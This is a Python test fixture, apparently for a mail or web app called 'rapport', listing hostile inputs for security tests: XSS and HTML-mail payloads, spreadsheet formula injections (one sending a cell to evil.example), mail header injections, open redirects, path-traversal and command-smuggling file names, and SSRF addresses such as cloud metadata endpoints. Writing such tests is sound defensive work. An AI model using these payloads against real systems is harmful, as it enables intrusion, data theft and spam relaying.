"""The attacks that stand nowhere else in the tests: HTML mail, formulas, headers, redirects, names, addresses."""

# ruff: noqa: E501  # tables of short texts
from __future__ import annotations

HTML_MAIL = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>x",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<select><iframe></select><img title='</iframe><img src=x onerror=alert(1)>'>",
    "<table><td><style></table><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><p>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/auth/sign-out'>x</a>",
    "<a ping='https://evil.example/' href='https://x.example/'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>x",
    "<base href='https://evil.example/'><a href=x>x</a>",
    "<link rel=stylesheet href='https://evil.example/a.css'>x",
    "<link rel=preload as=image href='https://evil.example/p'>x",
    "<link rel=dns-prefetch href='//a.evil.example'>x",
    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<iframe src='https://evil.example/'></iframe>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>x",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>x",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<video poster='https://evil.example/p'><source src='https://evil.example/v' onerror=alert(1)></video>x",
    "<audio src=x onerror=alert(1)></audio>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>x",
    "<img src='cid:logo'><img src='https://evil.example/p' srcset='https://evil.example/2x 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<picture><source srcset='https://evil.example/p'><img></picture>",
    "<input type=image src='https://evil.example/p'>",
    "<td background='https://evil.example/p'>x</td>",
    "<style>@import url(https://evil.example/a.css);</style>x",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>x",
    "<p style='background:url(https://evil.example/p)'>x</p>",
    "<p style='background-image:\\75 rl(https://evil.example/p)'>x</p>",
    "<p style='list-style:url(https://evil.example/p)'>x</p>",
    "<p style='content:url(https://evil.example/p)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='-moz-binding:url(x.xml#x)'>x</p>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:9'>Your session has ended</div>",
    "<div style='margin-top:-500px'>x</div>",
    "<div style='transform:scale(99)'>x</div>",
    "<img src='https://evil.example/?<p>all that follows is sent as a part of the address",
    "<a href='https://evil.example/' target=_top>x</a>",
    "<p id=csrf_token name=csrf_token class=btn>x</p>",
    "<form id=x><input name=attributes></form><a id=x name=y href='https://x.example/'>x</a>",
    "<div is=evil-element slot=x data-hx-get='/mailbox' hx-get='/mailbox' x-data='alert(1)'>x</div>",
    "<p contenteditable autofocus onfocus=alert(1) tabindex=1 accesskey=x>x</p>",
)

FORMULAS = (
    "=cmd|'/c calc'!A1", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=HYPERLINK(\"https://evil.example\")",
    "=WEBSERVICE(\"https://evil.example/\"&A1)", "=IMPORTXML(\"https://evil.example\",\"//a\")", "=DDE(\"cmd\";\"/c calc\";\"x\")",
    "\",=1+1", "'=1+1", "%0A=1+1", ";=1+1", "＝1+1", "\u200b=1+1", "a\n{\"forged\": true}", "a\u2028{\"forged\": true}",
)  # fmt: skip

# What each of these would add, were it not refused: a header, a second recipient, a second message.
HEADERS = (
    "a\r\nBcc: eve@evil.example", "a\nBcc: eve@evil.example", "a\rBcc: eve@evil.example", "a\r\n\r\n<script>", "a\r\n Bcc: x",
    "a\0b", "a\x0bBcc: x", "a\x0cBcc: x", "a\x85Bcc: x", "a\u2028Bcc: x", "a\u2029Bcc: x", "a\x1b[2J", "a\x7f",
)  # fmt: skip

REDIRECTS = (
    "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example",
    "/\t/evil.example", "/\n/evil.example", "/\r\n/evil.example", "\t//evil.example", " //evil.example", "https://evil.example",
    "https:evil.example", "http:/\\evil.example", "javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x",
    "evil.example", "@evil.example", "https://rapport.example@evil.example", "?next=//evil.example", "#//evil.example",
    "/a\r\nSet-Cookie: rapport_session=x", "/a\nLocation: https://evil.example", "/\0", "/\x01", "",
)  # fmt: skip

FILE_NAMES = (
    "../x", "..", ".", "../../etc/passwd", "/etc/passwd", "a/b", "a\\b", "..\\x", "C:x", "x\0", "x\n", ".hidden",
    "-rf", "~", "a%2fb", "%2e%2e", "con ", "x;id", "$(id)", "`id`", "x|y", "ｘ", "x\u202ey", "new", "x" * 81,
)  # fmt: skip

FILES_OF_THE_SERVER = (
    "/static/../settings.py", "/static/%2e%2e/settings.py", "/static/%2e%2e%2fsettings.py", "/static/..%2f..%2fsettings.py",
    "/static/..%5c..%5csettings.py", "/static/....//settings.py", "/static//etc/passwd", "/static/%00", "/static/dist/%00.js",
    "/static/dist/../../settings.py", "/static/dist/..;/settings.py", "/static/%252e%252e/settings.py", "/static/C:/boot.ini",
    "/static/~root", "/.env", "/.git/config", "/templates/..%2f..%2fetc%2fpasswd", "/templates/%2e%2e/versions/1",
)  # fmt: skip

ADDRESSES = (
    "http://example.com/", "ftp://example.com/", "file:///etc/passwd", "gopher://example.com/", "dict://example.com/",
    "https://localhost/", "https://LOCALHOST/", "https://localhost./", "https://a.localhost/", "https://rapport.internal/",
    "https://printer.local/", "https://intranet/", "https://127.0.0.1/", "https://127.1/", "https://127.0.0.1./", "https://0/",
    "https://0.0.0.0/", "https://2130706433/", "https://0x7f000001/", "https://0x7f.0.0.1/", "https://0177.0.0.1/",
    "https://017700000001/", "https://127.0.0.1.:443/", "https://10.0.0.1/", "https://172.16.0.1/", "https://192.168.0.1/",
    "https://169.254.169.254/latest/meta-data/", "https://100.64.0.1/", "https://192.0.0.1/", "https://198.18.0.1/",
    "https://224.0.0.1/", "https://240.0.0.1/", "https://255.255.255.255/", "https://[::]/", "https://[::1]/", "https://[fe80::1]/",
    "https://[fe80::1%25eth0]/", "https://[fc00::1]/", "https://[fec0::1]/", "https://[ff02::1]/", "https://[::ffff:127.0.0.1]/",
    "https://[::ffff:a9fe:a9fe]/", "https://[::127.0.0.1]/", "https://[64:ff9b::7f00:1]/", "https://[64:ff9b:1::1]/",
    "https://[2002:7f00:1::]/", "https://[2001:0:1::1]/", "https://[2001:db8::1]/", "https://example.com:22/",
    "https://example.com:6379/", "https://example.com:80/", "https://example.com:99999/", "https://user@example.com/",
    "https://user:pw@example.com/", "https://example.com@127.0.0.1/", "https://127.0.0.1@example.com/",
    "https://example.com\\@127.0.0.1/", "https://example.com#@127.0.0.1/", "https://example.com/\r\nHost: x", "https://example.com/ x",
    "https://exa\tmple.com/", "https://example\u3002com/", "https://ⓔxample.com/", "https://１２７.0.0.1/", "https://ex%61mple.com/",
    "https://example..com/", "https://.example.com/", "https://example.com./", "https://-example.com/", "https:///example.com/",
    "https:example.com", "//example.com/", "https://", "", "https://" + "a" * 2000 + ".com/",
)  # fmt: skip
